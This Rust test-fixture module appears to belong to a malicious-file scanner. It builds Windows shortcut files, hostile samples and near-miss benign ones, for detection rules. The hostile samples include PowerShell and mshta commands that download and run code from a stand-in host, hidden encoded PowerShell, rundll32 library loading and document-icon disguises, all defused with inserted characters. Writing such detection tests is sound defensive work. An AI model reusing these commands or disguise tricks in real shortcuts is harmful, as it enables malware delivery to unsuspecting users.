//! Windows shortcuts (MS-SHLLINK).

use super::{Found, Near, program, wide};
use crate::bytes::{Put, len16};

/// Flags (2.1.1): relative path, arguments, icon, Unicode.
const PATH: u32 = 0x08;
const ARGUMENTS: u32 = 0x20;
const ICON: u32 = 0x40;
const UNICODE: u32 = 0x80;

/// Header (2.1) with the flags and the number of the icon.
fn header(flags: u32, icon: u32) -> Vec<u8> {
    let mut file = vec![0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46];
    file.u32(flags | UNICODE).u32(0x20).zeros(28).u32(icon).u32(1).zeros(12);
    file
}

/// Strings (2.4) counted in characters, then the terminal block (2.5).
fn strings(mut file: Vec<u8>, all: &[&str]) -> Vec<u8> {
    for string in all {
        let units = wide(string);
        file.u16(len16(&units) / 2).raw(&units);
    }
    file.u32(0);
    file
}

fn plain(path: &str) -> Vec<u8> {
    strings(header(PATH, 0), &[path])
}

fn command(path: &str, arguments: &str) -> Vec<u8> {
    strings(header(PATH | ARGUMENTS, 0), &[path, arguments])
}

fn with_icon(path: &str, arguments: &str, icon: &str, number: u32) -> Vec<u8> {
    strings(header(PATH | ARGUMENTS | ICON, number), &[path, arguments, icon])
}

/// A target list (2.2): My Computer, Control Panel, and an item with a path.
fn control_panel(path: &str) -> Vec<u8> {
    let mut list = Vec::new();
    list.u16(20).raw(&[0x1f, 0]).raw(&0xe04f_d020_ea3a_6910_a2d8_0800_2b30_309d_u128.to_be_bytes());
    list.u16(20).raw(&[0x2e, 0x1e]).raw(&0x2020_ec21_ea3a_6910_a2dd_0800_2b30_309d_u128.to_be_bytes());
    let units = wide(path);
    list.u16(len16(&units) + 14).zeros(10).raw(&units).u16(0).u16(0);
    let mut file = header(1, 0);
    file.u16(len16(&list)).raw(&list).u32(0);
    file
}

fn folder(path: &str, number: u32) -> Vec<u8> {
    strings(header(PATH | ICON, number), &[path, r"%SystemRoot%\System32\SHELL32.dll"])
}

const POWERSHELL: &str = r"..\..\Windows\System32\WindowsPowerShell\v1.0\power¦shell.exe";
const CMD: &str = r"..\..\Windows\System32\cmd¦.exe";

pub(super) fn bad() -> Vec<Found> {
    let carrying = [plain(r"letter.odt"), vec![0; 512], program(b"")].concat();
    vec![
        ("Shortcut_Starts_Interpreter", command(CMD, "/c sta¦rt document.exe")),
        ("Shortcut_Hides_Download", command(POWERSHELL, "-w hidden -en¦c SQBFAFgAIAAxAA==")),
        (
            "Shortcut_Hides_Download",
            command(POWERSHELL, "-nop ie¦x (New-Object Net.WebClient).Down¦loadString('http://example.invalid/a')"),
        ),
        (
            "Shortcut_Hides_Download",
            command(r"..\Windows\System32\msh¦ta.exe", "msh¦ta.exe http://example.invalid/a.hta"),
        ),
        ("Shortcut_Replaces_Folder", command(CMD, "/c st¦art .hidden\\a.exe & sta¦rt expl¦orer \"My photos\" & exit")),
        ("Shortcut_Loads_Hidden_Library", command(r"..\Windows\System32\rund¦ll32.exe", r"~$WA¦BX.FAT32,start")),
        ("Shortcut_Feeds_Interpreter_From_File", command(CMD, "/V /R cm¦d<key.ch¦k")),
        ("Shortcut_Feeds_Interpreter_From_File", command(CMD, "/V /R cm¦d<key.ch¦k & sort /r <| sort /r <|")),
        ("Shortcut_Pads_Arguments", command(CMD, &format!("{}/c calc", " ".repeat(300)))),
        ("Shortcut_Pads_Arguments", command(CMD, &format!("{}/c calc", "\n".repeat(300)))),
        ("Shortcut_Wears_Document_Icon", with_icon(CMD, "/c calc", r"C:\Programs\Letter.p¦df", 0)),
        ("Shortcut_Wears_Document_Icon", with_icon(CMD, "/c calc", r"%SystemRoot%\System32\SHE¦LL32.dll", 4)),
        ("Shortcut_Carries_Program", carrying),
        ("Shortcut_Target_On_Web_Folder", plain(r"\\files.example.invalid@SS¦L\DavWWW¦Root\tools\setup.exe")),
        ("Shortcut_Control_Panel_Library", control_panel(r"E:\~WTR4141.t¦mp")),
        ("Shortcut_Folder_Is_Program", folder(r".\Photos.e¦xe", 3)),
        ("Shortcut_Folder_Is_Program", folder(r".\Photos.vb¦s", 0xffff_fffc)),
        // Padding is no shield.
        (
            "Shortcut_Hides_Download",
            [command(POWERSHELL, "-w hidden -en¦c SQBFAFgAIAAxAA=="), vec![0; 9 << 20]].concat(),
        ),
    ]
}

pub(super) fn good() -> Vec<Near> {
    vec![
        (
            &[
                "Shortcut_Starts_Interpreter",
                "Shortcut_Pads_Arguments",
                "Shortcut_Feeds_Interpreter_From_File",
                "Shortcut_Wears_Document_Icon",
            ],
            plain(r"..\..\Windows\System32\cmd.exe"),
        ),
        (
            &[
                "Shortcut_Starts_Interpreter",
                "Shortcut_Hides_Download",
                "Shortcut_Replaces_Folder",
                "Shortcut_Loads_Hidden_Library",
                "Shortcut_Pads_Arguments",
                "Shortcut_Feeds_Interpreter_From_File",
            ],
            command(
                r"..\Programs\LibreOffice\program\soffice.exe",
                "--writer --nologo \"My photos\\letter.odt\" & notes",
            ),
        ),
        (
            &[
                "Shortcut_Hides_Download",
                "Shortcut_Replaces_Folder",
                "Shortcut_Carries_Program",
                "Shortcut_Loads_Hidden_Library",
            ],
            plain(r"C:\Users\agent\Documents\explorer start powershell.odt"),
        ),
        (
            &["Shortcut_Wears_Document_Icon", "Shortcut_Carries_Program"],
            with_icon(r"..\Programs\Reader\reader.exe", "letter.pdf", r"C:\Programs\Reader\letter.pdf", 4),
        ),
        (&["Shortcut_Target_On_Web_Folder"], plain(r"\\server\share\tools\setup.exe")),
        (&["Shortcut_Target_On_Web_Folder"], plain(r"\\files.example.invalid@SSL\DavWWWRoot\letter.odt")),
        (&["Shortcut_Control_Panel_Library"], control_panel(r"C:\Windows\System32\main.cpl")),
        (&["Shortcut_Control_Panel_Library"], plain(r"E:\notes.tmp")),
        (&["Shortcut_Folder_Is_Program"], folder(r"..\Documents\Photos", 3)),
        (&["Shortcut_Folder_Is_Program"], folder(r"..\Windows\explorer.exe", 3)),
        (&["Shortcut_Folder_Is_Program", "Shortcut_Starts_Interpreter"], folder(r"..\Programs\reader.exe", 12)),
        (&["Shortcut_Starts_Interpreter"], command(r"..\Programs\totalcmd\TOTALCMD.EXE", "/O C:\\")),
    ]
}
